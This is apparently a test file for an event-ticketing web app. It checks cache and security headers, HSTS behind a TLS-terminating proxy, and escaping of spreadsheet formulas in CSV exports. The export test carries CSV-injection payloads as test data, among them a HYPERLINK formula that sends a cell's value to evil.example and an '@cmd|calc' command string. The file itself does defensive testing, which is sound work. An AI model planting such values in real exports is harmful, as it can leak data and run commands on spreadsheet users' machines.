// Hostile: what the answers say. API answers carry personal data and are `Cache-Control: no-store`
// (all of /proxy, /auth, /userDetails, /logout, errors included) except the public images that are
// meant for everyone; every answer has the security headers; HSTS whenever the base URL is https,
// also when a TLS-terminating proxy does the TLS (no certificate configured here).
import { expect, test } from 'bun:test'
import { parse } from 'csv-parse/sync'
import { csvCell } from '../modules/imports/export'
import { forEachDialect } from '../testing/harness'
import { addGuest, createEvent } from '../testing/organiser'
import { anonymousUpload, smallPng, uploadForm } from './fixtures'

forEachDialect('security: answer headers (http base URL)', (h) => {
  test('API answers, errors and session calls are no-store; public images keep their own caching; secure files are private, no-store', async () => {
    const admin = await h().admin()
    const e = await createEvent(admin)
    const g = await addGuest(admin, e.id)
    const answers = [
      await admin.get(`/proxy/api/events/${e.id}/visitors/${g.id}`),
      await admin.get('/proxy/api/user/current'),
      await admin.get('/api/user/current'),
      await admin.get('/proxy/userDetails'),
      await h().request('GET', '/proxy/api/events/999999999'),
      await h().request('GET', '/proxy/api/does-not-exist'),
      await h().request('POST', '/auth/login', { body: { email: 'niemand@example.org', password: 'Falsch123!' } }),
      await h().request('GET', `/proxy/api/public/events/${e.id}`),
      await h().request('GET', '/logout?redirect=/login'),
    ]
    for (const r of answers) expect([r.status, r.headers.get('cache-control')]).toEqual([r.status, 'no-store'])
    // a public event image (secure: false) may be cached by anyone
    const pub = await admin.request('POST', '/api/asset', { form: uploadForm(await smallPng(), 'buehne.png', { type: 'EVENT', secure: 'false' }) })
    expect((await h().request('GET', `/proxy/api/asset/${pub.body.id}`)).headers.get('cache-control')).toBe('public, max-age=86400')
    // a guest's upload (secure) never
    await admin.post(`/proxy/api/events/${e.id}/fields`, { type: 'IMAGE', displayName: 'Foto' })
    const up = await anonymousUpload(h(), e.id, 'headers-browser-1')
    for (const path of [`/proxy/api/asset/${up.body.id}`, `/proxy/api/asset/${up.body.id}/download`]) {
      const r = await admin.get(path)
      expect([path, r.status, r.headers.get('cache-control')]).toEqual([path, 200, 'private, no-store'])
    }
  })

  test('the CSV export neutralises cells a spreadsheet would run (=, +, -, @, tab, CR), keeps its own numbers', async () => {
    const admin = await h().admin()
    const e = await createEvent(admin)
    const evil = ['=HYPERLINK("http://evil.example?x="&A1;"Klick")', '+SUM(1+1)', '-2+3', '@cmd|calc', '\t=1+1', '\r=1+1']
    await addGuest(admin, e.id, { firstName: evil[0], lastName: evil[1], company: evil[2], position: evil[3], note: evil[4] })
    const tag = (await admin.post('/api/tags', { displayName: evil[5] })).body
    const g2 = await addGuest(admin, e.id, { firstName: 'Normal', lastName: 'Name', company: 'ACME =1', tags: [tag.id] })
    const r = await admin.get(`/proxy/api/events/${e.id}/visitors/export`)
    expect(r.status).toBe(200)
    expect(r.headers.get('cache-control')).toBe('no-store')
    const rows: string[][] = parse(r.text.replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true })
    const cells = rows.slice(1).flat()
    for (const cell of cells) expect([cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([cell, false])
    for (const x of evil.slice(0, 4)) expect(cells).toContain(`'${x}`)
    expect(cells).toContain('ACME =1')
    // the persons column is the server's own number: kept as a number
    const persons = rows[0].indexOf('Personen')
    expect(persons).toBeGreaterThan(-1)
    expect(rows.find((x) => x.includes('Normal'))![persons]).toBe('1')
    expect(g2.id).toBeTruthy()
  })

  test('csvCell: the OWASP rule for each dangerous first character; numbers stay numbers', () => {
    for (const x of ['=1', '+1', '-1', '@a', '\tx', '\rx']) expect(csvCell(x)).toBe(`'${x}`)
    expect([csvCell('-5'), csvCell(-5), csvCell(3), csvCell('a=b'), csvCell(null)]).toEqual(["'-5", '-5', '3', 'a=b', ''])
  })

  test('every answer carries the security headers; no HSTS over plain http', async () => {
    for (const path of ['/proxy/api/app/init', '/proxy/api/nope', '/events', '/public/event/1/frame']) {
      const r = await h().request('GET', path)
      expect(r.headers.get('x-content-type-options')).toBe('nosniff')
      expect(r.headers.get('content-security-policy')).toContain("default-src 'self'")
      expect(r.headers.get('referrer-policy')).toBe('same-origin')
      expect(r.headers.get('strict-transport-security')).toBeNull()
    }
    expect((await h().request('GET', '/events')).headers.get('x-frame-options')).toBe('SAMEORIGIN')
  })
})

forEachDialect(
  'security: answer headers (https base URL behind a TLS-terminating proxy)',
  (h) => {
    test('HSTS on every answer although the server itself speaks plain http', async () => {
      for (const path of ['/proxy/api/app/init', '/proxy/api/nope', '/events']) {
        const r = await h().request('GET', path, { headers: { host: 'tickets.example.org' } })
        expect([path, r.headers.get('strict-transport-security')]).toEqual([path, 'max-age=31536000; includeSubDomains'])
      }
      // and a refused cross-origin request too
      const refused = await h().request('POST', '/auth/login', { body: {}, headers: { host: 'tickets.example.org', origin: 'https://evil.example' } })
      expect([refused.status, refused.headers.get('strict-transport-security')]).toEqual([403, 'max-age=31536000; includeSubDomains'])
    })
  },
  { env: { EINLASS_BASE_URL: 'https://tickets.example.org' } },
)
